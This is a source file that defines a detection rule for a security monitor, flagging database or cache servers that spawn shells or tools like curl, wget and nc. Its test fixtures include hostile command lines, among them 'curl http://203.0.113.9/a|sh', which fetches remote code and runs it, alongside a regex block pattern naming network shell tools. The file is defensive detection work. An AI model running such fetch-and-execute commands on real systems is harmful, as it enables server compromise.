import { commandRule } from "../../command-rule.js";
import { find, parentOf } from "../../shell/look.js";

/** A database or cache server started a shell: somebody runs commands through a query. */
export const databaseStartedShell = commandRule({
  id: "database-started-shell",
  alertType: "Picket_DatabaseStartedShell",
  name: "Database started a shell",
  severity: "High",
  about: "A database or cache server started a shell: somebody runs commands through a query.",
  tactics: ["Execution", "Initial Access"],
  techniques: ["T1190", "T1059.004", "T1505.001"],
  falsePositives: [
    "Database servers that run an archive command for their log; those are copies and not shells that ask or fetch.",
  ],
  parents: ["postgres", "mysqld", "mariadbd", "mongod", "redis-server", "influxd", "sqlservr", "memcached"],
  sees: (reading, event) => {
    if (
      !/\/(?:postgres|mysqld|mariadbd|mongod|redis-server|influxd|sqlservr|memcached)$/.test(parentOf(event))
    )
      return undefined;
    return (
      find(reading, /^(?:curl|wget|nc|ncat|whoami|id|uname|python[\d.]*|perl|chmod|base64|crontab)$/) ??
      find(reading, /^(?:ba|da)?sh$/, ({ argv }) => argv.includes("-i"))
    );
  },
  did: "ran a command through a database",
  because: "databases do not start such programs by themselves",
  fires: [
    {
      line: "sh -c curl http://203.0.113.9/a|sh",
      user: "postgres",
      parent: "/usr/lib/postgresql/15/bin/postgres",
    },
    { line: "sh -c id", user: "mysql", parent: "/usr/sbin/mysqld" },
    { line: "/bin/sh -c wget -q http://203.0.113.9/x", user: "redis", parent: "/usr/bin/redis-server" },
  ],
  silent: [
    { line: "sh -c cp pg_wal/1 /archive/1", user: "postgres", parent: "/usr/lib/postgresql/15/bin/postgres" },
    {
      line: "sh -c test ! -f /archive/1 && cp pg_wal/1 /archive/1",
      user: "postgres",
      parent: "/usr/lib/postgresql/15/bin/postgres",
    },
    { line: "sh -c id", user: "op", parent: "/usr/bin/bash" },
    { line: "postgres: checkpointer", parent: "/usr/lib/postgresql/15/bin/postgres" },
    { line: "curl -s http://127.0.0.1:8086/ping", parent: "/usr/bin/bash" },
  ],
});
